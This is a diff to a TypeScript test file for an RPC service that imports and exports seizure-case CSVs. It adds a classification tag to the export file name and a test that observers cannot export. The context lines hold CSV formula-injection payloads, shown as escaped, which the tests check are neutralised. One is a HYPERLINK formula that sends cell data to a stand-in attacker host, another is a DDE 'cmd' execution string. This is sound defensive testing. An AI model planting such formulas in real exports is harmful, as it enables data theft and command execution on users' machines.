@@ -86,10 +86,19 @@ describe('import through RPC', () => {
     const { c, workspaceId, caseId } = await newCase();
     await c.call('import.commit', { workspaceId, caseId, ...file('08-formula-injection.csv') });
     const out = await c.call('export.seizuresCsv', { workspaceId, caseId });
-    expect(out.fileName).toBe('NEST-2026-0001-seizures.csv');
+    expect(out.fileName).toBe('NEST-2026-0001-seizures-TLP-AMBER.csv');
     expect(out.content).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`);
     expect(out.content).toContain("'+cmd|' /C calc'!A0");
     expect(out.content).toContain("'@SUM(1+1)");
     expect(out.content.split('\r\n')[0]).toBe('seizure_date,date_precision,country_iso2,place,latitude,longitude,location_precision,crime_sector,commodity,taxon,quantity,unit,origin_iso2,transit_iso2,destination_iso2,seizing_agency,reported_value,reported_currency,operation,source_url,source_title,notes');
+  });
+});
+
+describe('export permissions', () => {
+  it('refuses observers', async () => {
+    const { c, workspaceId, caseId } = await newCase();
+    h!.service.workspace(workspaceId).store.setLocalSettings({ ...h!.service.workspace(workspaceId).local(), role: 'observer' });
+    const err = await c.call('export.seizuresCsv', { workspaceId, caseId }).then(() => null, (e: unknown) => e);
+    expect((err as RpcError).code).toBe('forbidden');
   });
 });
